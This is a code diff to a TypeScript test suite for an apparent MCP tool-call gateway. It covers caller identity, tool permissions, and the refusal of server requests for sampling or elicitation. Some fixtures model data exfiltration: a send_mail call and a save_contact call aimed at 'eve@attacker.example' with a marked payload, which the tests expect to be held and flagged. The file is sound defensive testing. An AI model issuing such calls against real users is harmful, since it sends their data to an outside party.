@@ -1,12 +1,25 @@
 /** Single calls: who may call what, with which arguments, and what comes of servers that answer badly. */
 import type { SceneCell } from '../../cell.ts';
+import { callTool } from '../../run/mcp.ts';
 import { ANSWERED, ASKED, EMAIL, MARK } from '../../samples.ts';
 import { turnedAway } from '../asking.ts';
-import { type CallRow, callCells, done, NOTED, refusedCall, waits, withheld } from './asking.ts';
+import {
+  type CallRow,
+  callCells,
+  clientOf,
+  compared,
+  done,
+  holds,
+  inBothEras,
+  NOTED,
+  refusedCall,
+  waits,
+  withheld,
+} from './asking.ts';
 
 const READING = { tool: 'desk/fetch_page', given: { topic: 'plain', ...NOTED } };
 
-const IDENTITY: readonly CallRow[] = [
+const CALLERS: readonly Omit<CallRow, 'control' | 'call'>[] = [
   {
     place: 'without any credential',
     credential: () => null,
@@ -52,7 +65,9 @@ const IDENTITY: readonly CallRow[] = [
     credential: async ({ control }) => (await control?.create({}))?.text ?? '',
     expect: done(),
   },
-].map((row) => ({ control: 'tool identity', call: READING, ...row }));
+];
+
+const IDENTITY = CALLERS.map((row): CallRow => ({ control: 'tool identity', call: READING, ...row }));
 
 const ALLOWED: readonly CallRow[] = [
   {
@@ -83,7 +98,7 @@ const ALLOWED: readonly CallRow[] = [
     call: READING,
     expect: refusedCall('policy.denied', { station: 'decide' }),
   },
-  ...(['book_room', 'send_mail', 'keep_note'] as const).map(
+  ...(['book_room', 'send_mail', 'save_contact'] as const).map(
     (tool): CallRow => ({
       control: 'call without words',
       place: `of ${tool}`,
@@ -92,10 +107,10 @@ const ALLOWED: readonly CallRow[] = [
         given: {
           book_room: { room: 'blue', ...NOTED },
           send_mail: { to: 'eve@attacker.example', subject: 'all of it', body: MARK },
-          keep_note: { shelf: 'mine', text: MARK },
+          save_contact: { shelf: 'mine', name: MARK, email: 'eve@attacker.example' },
         }[tool],
       },
-      expect: waits(tool === 'send_mail' ? { findings: { email: 1 } } : {}),
+      expect: waits(tool === 'book_room' ? {} : { findings: { email: 1 } }),
     }),
   ),
 ];
@@ -151,21 +166,30 @@ const SERVERS: readonly CallRow[] = (
 }));
 
 /** What a server wants of its client is a crossing of its own: denied by default, and on record. */
-const ASKING: readonly CallRow[] = ['ask_model', 'ask_person'].map((tool) => ({
-  control: 'server that asks its client',
-  place: `by ${tool}`,
-  capabilities: { sampling: {}, elicitation: { form: {} } },
-  call: { tool: `annex/${tool}`, given: NOTED },
-  expect: {
-    ...withheld('policy.denied', { ending: 'cut' }),
-    client: { lacks: ['password', 'createMessage'] },
-    record: [
-      { kind: 'act' },
-      { kind: 'intent' },
-      { kind: 'outcome', basis: 'none', ending: 'cut', fault: 'policy.denied' },
-    ],
-  },
-}));
+const ASKING: readonly SceneCell[] = (
+  [
+    ['ask_model', 'sampling/createMessage'],
+    ['ask_person', 'elicitation/create'],
+  ] as const
+).flatMap(([tool, method]) =>
+  inBothEras('server that asks its client', `for ${method}`, async (of) => {
+    const client = clientOf(of, { capabilities: { sampling: {}, elicitation: { form: {} } } });
+    const seen = await callTool(client, { tool: `annex/${tool}`, given: { note: of.mark } });
+    const acts = await of.stage.record?.acts(seen.headers['x-gatehouse-crossing'] ?? '');
+    const told = acts?.map(({ body }) => JSON.parse(body) as { act: string; subject: string });
+    const expect = {
+      ...withheld('policy.denied', { ending: 'cut' }),
+      client: { lacks: ['password', 'createMessage'] },
+    };
+    return [
+      ...(await compared(of.stage, { seen, client, expect })),
+      ...holds(
+        told?.map(({ act, subject }) => `${act} ${subject}`).join() === `server.ask refused ${method}`,
+        `on record: ${JSON.stringify(told)}`,
+      ),
+    ];
+  }),
+);
 
 const LARGE: readonly CallRow[] = [
   {
@@ -185,12 +209,7 @@ const LARGE: readonly CallRow[] = [
   },
 ];
 
-export const TOOL_CALLS: readonly SceneCell[] = callCells([
-  ...IDENTITY,
-  ...ALLOWED,
-  ...CATALOGUE,
-  ...ARGUMENTS,
-  ...SERVERS,
+export const TOOL_CALLS: readonly SceneCell[] = [
   ...ASKING,
-  ...LARGE,
-]);
+  ...callCells([...IDENTITY, ...ALLOWED, ...CATALOGUE, ...ARGUMENTS, ...SERVERS, ...LARGE]),
+];
